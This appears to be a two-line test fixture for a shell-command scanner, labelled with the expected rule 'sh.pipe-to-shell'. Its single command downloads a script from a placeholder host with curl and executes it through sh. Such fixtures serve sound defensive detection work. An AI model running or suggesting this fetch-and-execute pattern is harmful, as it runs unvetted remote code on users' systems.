# expect: sh.pipe-to-shell
sh -c "$(curl -fsSL http://example.com/x)"
